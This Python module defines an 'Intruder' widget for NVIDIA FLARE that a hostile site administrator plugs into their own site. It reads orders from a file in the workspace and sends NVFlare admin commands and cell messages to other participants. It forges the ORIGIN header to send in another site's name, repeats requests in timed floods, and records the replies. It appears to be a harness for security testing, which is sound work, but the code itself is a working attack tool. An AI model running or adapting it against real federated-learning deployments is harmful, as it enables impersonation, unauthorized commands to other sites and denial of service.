"""What a hostile administrator adds to the ``components`` of his own site: it sends NVFlare's own messages to others.

It waits for a file of orders in its kit, carries them out, and writes down what came back.
"""

from __future__ import annotations

import json
import threading
import time
from collections.abc import Mapping
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

from nvflare.apis.event_type import EventType
from nvflare.apis.fl_constant import FLContextKey
from nvflare.apis.fl_context import FLContext
from nvflare.apis.shareable import Shareable
from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey
from nvflare.private.admin_defs import Message as Command
from nvflare.private.defs import CellChannel, new_cell_message
from nvflare.widgets.widget import Widget

ORDERS, ANSWERS = "orders.json", "answers.json"
ORIGIN = "origin"
SECONDS = 3.0
FLOOD_SECONDS = 0.3
"""How long an answer is waited for: to a single order, and to one that is repeated."""

Orders = Mapping[str, Mapping[str, str]]
"""By name: ``target``, ``topic`` (of the header), ``command`` (of the payload), ``body``, ``job_id``, ``channel``,
``origin``; the first two must be there."""


class Intruder(Widget):
    """Carries out the orders that it finds; for ``seconds`` over and over."""

    def handle_event(self, event_type: str, fl_ctx: FLContext) -> None:
        if event_type == EventType.SYSTEM_START:
            cell = fl_ctx.get_engine().get_cell().core_cell
            kit = Path(fl_ctx.get_prop(FLContextKey.WORKSPACE_OBJECT).get_root_dir())
            threading.Thread(target=self._work, args=(cell, kit), daemon=True).start()

    def _work(self, cell: Any, kit: Path) -> None:
        while True:
            time.sleep(0.1)
            if (kit / ORDERS).is_file():
                found = json.loads((kit / ORDERS).read_text())
                (kit / ORDERS).unlink()
                part = kit / f"{ANSWERS}.part"
                part.write_text(json.dumps(carried_out(cell, found["orders"], found["seconds"])))
                part.rename(kit / ANSWERS)


def carried_out(cell: Any, orders: Orders, seconds: float = 0) -> dict[str, str]:
    """What came back for each order, all at once; of one that is repeated the first answer that is ``ok``."""
    cell.add_outgoing_request_filter("*", "*", _pose)
    ends, answers = time.monotonic() + seconds, dict.fromkeys(orders, "")
    patience = FLOOD_SECONDS if seconds else SECONDS
    with ThreadPoolExecutor(len(orders)) as pool:
        while True:
            found = pool.map(lambda order: _answer(cell, order, patience), orders.values())
            for name, answer in zip(orders, found, strict=True):
                if not answers[name].startswith("ok"):
                    answers[name] = answer
            if time.monotonic() >= ends:
                return answers
            time.sleep(0.05)


def _pose(message: Any) -> None:
    """Send in another's name, where an order says so."""
    if origin := message.get_header(ORIGIN):
        message.set_header(MessageHeaderKey.ORIGIN, origin)


def _answer(cell: Any, order: Mapping[str, str], patience: float) -> str:
    channel = order.get("channel", CellChannel.CLIENT_MAIN)
    command = Command(topic=order.get("command", order["topic"]), body=order.get("body", ""))
    if "job_id" in order:
        command.set_header("job_id", order["job_id"])
    headers = {ORIGIN: order["origin"]} if "origin" in order else {}
    reply = cell.send_request(
        target=order["target"],
        channel=channel,
        topic=order["topic"],
        request=new_cell_message(headers, command if channel == CellChannel.CLIENT_MAIN else Shareable()),
        timeout=patience,
        optional=True,
    )
    body = reply.payload.body if isinstance(reply.payload, Command) else reply.payload
    return f"{reply.get_header(MessageHeaderKey.RETURN_CODE)}: {body}"
